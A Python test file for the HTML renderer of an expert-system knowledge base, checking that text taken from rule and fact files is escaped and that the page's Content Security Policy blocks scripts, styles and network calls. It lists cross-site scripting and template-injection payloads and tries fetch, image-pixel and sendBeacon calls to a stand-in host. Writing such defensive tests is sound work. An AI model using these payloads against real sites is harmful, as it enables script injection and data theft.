"""Whatever stands in the files of a knowledge base stands on the page as text, and nothing of it comes to life."""

from collections.abc import Callable, Iterator, Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import yaml
from examples import examples
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from kzexpert.engines import engine
from kzexpert.language import load_knowledge_base
from kzexpert.model import Citation, KnowledgeBase, format_value
from kzexpert.program.snapshot import snapshot
from kzexpert.proof.lineage import prove
from kzexpert.questions.question import read_question
from kzexpert.render.html import html_page
from kzexpert.render.judgement import Inquiry, Page
from kzexpert.render.writer import visible

if TYPE_CHECKING:
    from playwright.sync_api import Page

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "end of style": "</style></script></title><script>alert(1)</script>",
    "attribute": "\"'><img/src=x/onerror=alert(1)>",
    "handler": '"/onmouseover=alert(1)/autofocus/onfocus=alert(1)/x="',
    "template": "{{7*7}}{%set/x=1%}${7*7}<%=7*7%>",
    "address": "javascript:alert(1)//",
    "address of a page": "data:text/html,<script>alert(1)</script>",
    "entities": "&lt;script&gt;&#60;b&amp;quot;&NotAnEntity;&",
    "comment": "--><!--<svg/onload=alert(1)>]]><![CDATA[",
    "control": "nul\x00bell\x07escape\x1b[31mdelete\x7f",
    "direction": "\u202eexe.\u2066hidden\u2069\u200bzero\ufeff",
    "letters": "Қазақстан\u0301שלוםالسلام中文🇰🇿",
}
#: All that the page is made of.
TAGS = set(
    "a body br button caption circle code dd desc details div dl dt em figure g h1 h2 h3 h4 head "  # noqa: SIM905
    "header html input label li line link main meta nav ol option p path pre rect script section select span strong "
    "style summary svg table tbody td text tfoot th thead title tr ul".split()
)
TOLD = """() => Array.from(document.querySelectorAll("*"), (item) =>
  [item.localName, ...Array.from(item.attributes, (attribute) => attribute.name)])"""


class World:
    """A knowledge base with a payload in each of its texts, numbered so that each can be told from the others."""

    def __init__(self, payload: str, folder: Path) -> None:
        self.payload = payload
        self.texts: dict[str, str] = {}
        name = payload.replace("/", "⁄").replace("\x00", "\x01")
        self.folder = folder / f"world {name}"
        for part, content in (("rules", self.rules()), ("facts", self.facts())):
            place = self.folder / part
            place.mkdir(parents=True)
            (place / f"{part} {name}.yaml").write_text(yaml.safe_dump(content), encoding="utf-8")

    def text(self, field: str) -> str:
        return self.texts.setdefault(field, f"{field}.{self.payload}")

    def template(self, field: str, slots: str) -> str:
        """A sentence with slots; no lone brace may stand in it."""
        return f"{self.text(field)} {slots}" if "{" not in self.payload else slots

    def rules(self) -> Mapping[str, Any]:
        alignment = f"alignment(?state, ?power, {format_value(self.text('sphere'))})"
        return {
            "kinds": ["state", "sphere"],
            "predicates": {
                "joint": {
                    "args": [{"state": "state"}, {"power": "state"}, {"name": "text"}],
                    "holds": "event",
                    "says": self.template("says.fact", "{state} {power} {name}"),
                    "doc": self.text("doc"),
                },
                "alignment": {
                    "args": [{"state": "state"}, {"power": "state"}, {"sphere": "sphere"}],
                    "compares": "power",
                    "says": self.template("says.conclusion", "{state} {power} {sphere}"),
                    "asks": ["who goes with {power}"],
                },
            },
            "rules": [
                {
                    "id": self.text("rule"),
                    "title": self.text("title"),
                    "when": [
                        "joint(?state, ?power, ?name)",
                        "?n = count(?x for joint(?state, ?power, ?x))",
                        "?n >= 1",
                        f"?name != {format_value(self.text('comparison'))}",
                        f"not joint(?power, ?state, {format_value(self.text('absence'))})",
                    ],
                    "then": alignment,
                    "certainty": 0.6,
                    "because": self.template("because", "{state} {power} {name}"),
                    "source": {"id": self.text("source"), "at": self.text("at.rule")},
                },
                {
                    "id": self.text("against"),
                    "when": ["joint(?state, ?power, _)"],
                    "then": alignment,
                    "certainty": -0.2,
                },
            ],
        }

    def facts(self) -> Mapping[str, Any]:
        state, power, source = self.text("state"), self.text("power"), self.text("source")
        row = {"state": self.text("alias"), "power": power, "name": self.text("value"), "on": 2009}
        return {
            "entities": {
                state: {"kind": "state", "aliases": [self.text("alias")]},
                power: {"kind": "state"},
                self.text("sphere"): {"kind": "sphere"},
            },
            "sources": {
                source: {
                    "title": self.text("source.title"),
                    "authors": self.text("authors"),
                    "publisher": self.text("publisher"),
                    "date": 2010,
                    "url": self.text("url") if not self.payload.startswith(("javascript", "data")) else self.payload,
                }
            },
            "facts": {"joint": [{**row, "source": source, "at": self.text("at.fact"), "note": self.text("note")}]},
        }


@pytest.fixture(params=list(PAYLOADS.values()), ids=list(PAYLOADS))
def world(request: pytest.FixtureRequest, tmp_path: Path) -> World:
    return World(request.param, tmp_path)


def test_nothing_comes_to_life(world: World, judgement: Callable[..., str], opened: "Callable[..., Page]") -> None:
    question = f"alignment({format_value(world.text('state'))}, ?power, {format_value(world.text('sphere'))})"
    page = opened(judgement(question, world.folder, assume=(f"joint({_quoted(world)})",)))
    told = page.evaluate(TOLD)
    assert {tag for tag, *_ in told} <= TAGS
    assert sum(tag == "script" for tag, *_ in told) == sum(tag == "style" for tag, *_ in told) == 1
    attributes = {attribute for _, *several in told for attribute in several}
    assert [name for name in attributes if name.startswith(("on", "src", "style", "form", "autofocus"))] == []
    addresses = page.evaluate("Array.from(document.querySelectorAll('[href]'), (item) => item.getAttribute('href'))")
    assert {address.partition(":")[0] for address in addresses if not address.startswith("#")} <= {"data"}
    assert page.evaluate("document.querySelectorAll('link').length") == 1
    page.get_by_role("button", name="Unfold all").click()
    shown = " ".join(page.evaluate("document.body.innerText + ' ' + document.title").split()).casefold()
    hidden = {"doc", "alias"}
    silent = {"says.fact", "says.conclusion", "because"} if "{" in world.payload else set()
    missing = [
        field
        for field, text in world.texts.items()
        if field not in hidden | silent
        and visible(text).casefold() not in shown
        and visible(format_value(text)).casefold() not in shown
    ]
    assert missing == []
    assert f"rules {visible(world.folder.name[len('world ') :])}.yaml".casefold() in shown


def _quoted(world: World) -> str:
    return ", ".join(format_value(world.text(name)) for name in ("power", "state", "assumed"))


def test_search_and_filter_take_anything(
    world: World, judgement: Callable[..., str], opened: "Callable[..., Page]"
) -> None:
    page = opened(judgement("alignment(?state, ?power, ?sphere)", world.folder))
    page.get_by_label("Search", exact=True).fill(visible(world.payload))
    page.locator("mark").first.wait_for()
    assert {text.casefold() for text in page.locator("mark:visible").all_inner_texts()} == {
        visible(world.payload).casefold()
    }
    page.get_by_label("Source", exact=True).select_option(index=1)
    assert page.locator(".cite.chosen").count() > 0
    assert {tag for tag, *_ in page.evaluate(TOLD)} <= TAGS | {"mark"}


def test_an_address_on_the_web_is_a_link_and_no_other(judgement: Callable[..., str]) -> None:
    text = judgement("who dominates Ruritania")
    assert '<a href="https://gazette.example/2009">https://gazette.example/2009</a>' in text
    assert "not on the web" in text
    assert 'href="not' not in text


def test_the_policy_stops_what_escaping_would_let_through(
    judgement: Callable[..., str], opened: "Callable[..., Page]"
) -> None:
    hostile = (
        "<script>window.ran = 1</script><img src='x.png' onerror='window.ran = 2'><svg onload='window.ran = 3'></svg>"
        "<iframe srcdoc='<script>parent.ran = 4</script>'></iframe><p style='position: fixed'>styled</p>"
        "<form action='https://example.invalid/'><button id='send'>send</button></form>"
    )
    page = opened(judgement("who dominates Ruritania").replace("</main>", f"{hostile}</main>"), quiet=False)
    page.evaluate("document.getElementById('send').click()")
    page.wait_for_timeout(300)
    assert page.url.startswith("file:")
    assert page.evaluate("window.ran") is None
    assert page.evaluate("getComputedStyle(document.querySelector('p[style]')).position") == "static"


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        ("fetch('https://example.invalid/').catch(() => 0)", "connect-src"),
        ("new Image().src = 'https://example.invalid/pixel.png'", "img-src"),
        ("navigator.sendBeacon('https://example.invalid/', 'x')", "connect-src"),
        (
            "document.head.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))",
            "script-src-elem",
        ),
        (
            "document.head.append(Object.assign(document.createElement('style'), {textContent: '*{}'}))",
            "style-src-elem",
        ),
        ("document.body.setAttribute('style', 'color: red')", "style-src-attr"),
        ("import('data:text/javascript,1').catch(() => 0)", "script-src-elem"),
    ],
)
def test_the_policy_forbids(
    attempt: str, directive: str, judgement: Callable[..., str], opened: "Callable[..., Page]"
) -> None:
    page = opened(judgement("who dominates Ruritania"), quiet=False)
    seen = page.evaluate(
        """(attempt) => new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
          setTimeout(() => resolve("nothing stopped it"), 2000);
          ATTEMPT;
        })""".replace("ATTEMPT", attempt)
    )
    assert seen == directive


# --- any text at all, without a browser -----------------------------------------------------------------------------


class Skeleton(HTMLParser):
    """The elements of a page and their attributes, without the texts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, tuple[tuple[str, str], ...]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple((name, value or "") for name, value in attributes)))

    def handle_endtag(self, tag: str) -> None:
        self.elements.append((f"/{tag}", ()))


def _with_texts(kb: KnowledgeBase, texts: Iterator[str]) -> KnowledgeBase:
    """The small world with other words in it."""
    return replace(
        kb,
        predicates=tuple(replace(item, says=f"x{next(texts)}") if item.says else item for item in kb.predicates),
        sources=tuple(
            replace(
                item, title=f"x{next(texts)}", authors=next(texts), publisher=f"x{next(texts)}", url=f"x{next(texts)}"
            )
            for item in kb.sources
        ),
        rules=tuple(
            replace(item, title=f"x{next(texts)}", because=f"x{next(texts)}", source=_cited(item.source, texts))
            for item in kb.rules
        ),
        facts=tuple(replace(item, note=f"x{next(texts)}", source=_cited(item.source, texts)) for item in kb.facts),
    )


def _cited(source: Citation | None, texts: Iterator[str]) -> Citation | None:
    return source and replace(source, at=f"x{next(texts)}")


def _page(kb: KnowledgeBase, question: str) -> str:
    inference = engine("experta").infer(snapshot(kb))
    asked = read_question(kb, "dominates(?power, Ruritania)")
    return html_page(Page((Inquiry(question, prove(inference, asked)),)))


_SNIPPETS = st.sampled_from([*PAYLOADS.values(), "<", ">", '"', "'", "&", "</p>", "<!--", "\x00", "\u2028", "\ud7ff"])


@examples(40)
@given(words=st.lists(_SNIPPETS | st.text(min_size=1, max_size=20), min_size=5, max_size=12))
def test_no_text_changes_what_the_page_is_made_of(words: list[str], checkout: Path) -> None:
    kb = load_knowledge_base([checkout / "tests" / "html" / "kb"])

    def endless(found: list[str]) -> Iterator[str]:
        while True:
            yield from found

    plain = _page(_with_texts(kb, endless(["word"])), "question")
    wild = _page(_with_texts(kb, endless(words)), words[0])
    assert Skeleton(wild).elements == Skeleton(plain).elements
    assert wild.isprintable() or all(character.isprintable() or character == "\n" for character in wild)
